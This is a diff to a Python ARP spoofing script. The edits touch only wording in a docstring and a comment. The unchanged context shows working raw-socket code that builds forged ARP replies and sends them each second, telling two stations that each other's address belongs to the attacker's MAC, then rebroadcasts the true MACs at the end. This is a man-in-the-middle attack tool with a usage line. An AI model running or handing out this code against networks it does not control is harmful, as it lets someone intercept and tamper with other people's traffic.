@@ -1,5 +1,5 @@
 # SPDX-License-Identifier: Apache-2.0
-"""ARP spoofing between two stations: unasked answers claim each one's address for this MAC (RFC 826).
+"""ARP spoofing between two stations: unsolicited answers claim each one's address for this MAC (RFC 826).
 
 usage: spoof.py INTERFACE SECONDS ADDRESS MAC ADDRESS MAC
 """
@@ -19,7 +19,7 @@ with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
     own = wire.getsockname()[4]
 
     def answer(claimed, claimed_by, told, told_mac):
-        """Tells `told` that `claimed` is at `claimed_by`; to everybody when the address told is the claimed one."""
+        """Announces to `told` that `claimed` is at `claimed_by`; broadcast if `told` is the claimed address itself."""
         wire.send(mac(told_mac) + own + b"\x08\x06" + struct.pack(
             ">HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, claimed_by, socket.inet_aton(claimed), mac(told_mac),
             socket.inet_aton(told)) + bytes(18))
@@ -32,7 +32,7 @@ with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
         answer(first, own, second, second_mac)
         answer(second, own, first, first_mac)
         time.sleep(1)
-    # Leaves as it came: the true MACs are told again, to all.
+    # Restores the ARP caches: the true MAC addresses are announced to all.
     for _ in range(2):
         answer(first, mac(first_mac), first, everybody)
         answer(second, mac(second_mac), second, everybody)
